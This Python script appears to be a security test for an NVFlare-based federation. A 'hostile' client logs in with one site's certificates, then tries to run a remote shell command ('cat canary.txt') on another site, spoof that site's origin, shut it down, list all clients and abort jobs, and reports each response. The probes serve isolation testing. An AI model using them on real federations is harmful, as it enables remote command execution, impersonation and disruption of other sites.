"""A hostile program that holds one site's kit: it logs in, sends messages to everybody, and prints the answers.

`python hostile_cell.py KIT RUN` prints a JSON object: by attack, the engine's return code and the answer's text.
"""

import json
import logging
import os
import sys
import time
from pathlib import Path
from typing import Any

from nvflare.apis.fl_constant import ReservedKey
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.apis.signal import Signal
from nvflare.app_common.decomposers import common_decomposers
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.drivers.driver_params import DriverParams
from nvflare.private.admin_defs import Message as AdminMessage
from nvflare.private.defs import CellMessageHeaderKeys, ClientType, new_cell_message
from nvflare.private.fed.authenticator import Authenticator
from nvflare.private.fed.utils.fed_utils import fobs_initialize

from fedcm.federation.kit import read_kit

_TIMEOUT = 2.0  # seconds; a refused message has no answer


class HostileCell:
    """A connection and a login with the kit's certificate."""

    def __init__(self, folder: Path) -> None:
        kit = read_kit(folder)
        fobs_initialize()
        common_decomposers.register()
        credentials = {
            DriverParams.CA_CERT.value: str(kit.root),
            DriverParams.CLIENT_CERT.value: str(kit.certificate),
            DriverParams.CLIENT_KEY.value: str(kit.key),
        }
        self.cell: Any = Cell(
            fqcn=kit.name,
            root_url=f"grpc://{kit.host}:{kit.port}",
            secure=True,
            credentials=credentials,
            create_internal_listener=False,
            auth_identity_map={"server": kit.host},
        )
        self.cell.start()
        self.headers: dict[str, Any] = {}
        for add in (self.cell.core_cell.add_outgoing_request_filter, self.cell.core_cell.add_outgoing_reply_filter):
            add("*", "*", self._set_headers)
        time.sleep(1)
        authenticator = Authenticator(
            cell=self.cell,
            project_name=kit.federation,
            client_name=kit.name,
            client_type=ClientType.REGULAR,
            expected_sp_identity=kit.host,
            secure_mode=True,
            root_cert_file=str(kit.root),
            private_key_file=str(kit.key),
            cert_file=str(kit.certificate),
            msg_timeout=10,
            retry_interval=1,
            timeout=60,
        )
        context = FLContext()
        context.set_public_props({ReservedKey.IDENTITY_NAME: kit.name})
        token, signature, session, _ = authenticator.authenticate(context, Signal())
        self.login = {
            CellMessageHeaderKeys.CLIENT_NAME: kit.name,
            CellMessageHeaderKeys.TOKEN: token,
            CellMessageHeaderKeys.TOKEN_SIGNATURE: signature,
            CellMessageHeaderKeys.SSID: session,
            CellMessageHeaderKeys.PROJECT_NAME: kit.federation,
        }
        self.headers = self.login

    def _set_headers(self, message: Any) -> None:
        for name, value in self.headers.items():
            message.set_header(name, value)

    def ask(self, target: str, channel: str, topic: str, payload: Any = None, **headers: Any) -> tuple[str, str]:
        """Send a request and return the return code and the text of the answer."""
        self.headers = self.login | headers
        reply = self.cell.core_cell.send_request(
            channel=channel, topic=topic, target=target, request=new_cell_message({}, payload), timeout=_TIMEOUT
        )
        answer = getattr(reply.payload, "body", reply.payload)
        return str(reply.get_header(MessageHeaderKey.RETURN_CODE)), str(answer)


def attack(hostile: HostileCell, job: str) -> dict[str, tuple[str, str]]:
    """Try to reach other sites, the server and a job, by attack."""

    def command(topic: str, body: str) -> AdminMessage:
        return AdminMessage(topic=topic, body=body)

    beat = Shareable()
    beat.set_peer_context(FLContext())
    as_a = {MessageHeaderKey.ORIGIN: "a"}
    return {
        "own heartbeat": hostile.ask("server", "task", "heart_beat", beat),
        "file of a": hostile.ask("a", "admin", "sys.shell", command("sys.shell", "cat canary.txt")),
        "machine of a": hostile.ask("a", "admin", "sys.info", command("sys.info", "")),
        "shutdown of a": hostile.ask("a", "admin", "train.shutdown", command("train.shutdown", "")),
        "login of a": hostile.ask("a", "_net_manager", "start_route", "server"),
        "quit as a": hostile.ask("server", "task", "quit", beat, **as_a),
        "names of all": hostile.ask("server", "_net_manager", "cells"),
        "all logins": hostile.ask("server", "server_parent_listener", "get_clients"),
        "traffic at the server": hostile.ask("server", "_net_manager", "speed", {"to_fqcn": "a", "num_tries": 1}),
        "stop of a run": hostile.ask(f"server.{job}", "server_command", "app_command", Shareable()),
        "abort of a run": hostile.ask(f"server.{job}", "server_command", "abort", Shareable()),
    }


if __name__ == "__main__":
    logging.disable(logging.CRITICAL)
    print(json.dumps(attack(HostileCell(Path(sys.argv[1])), sys.argv[2])), flush=True)
    os._exit(0)
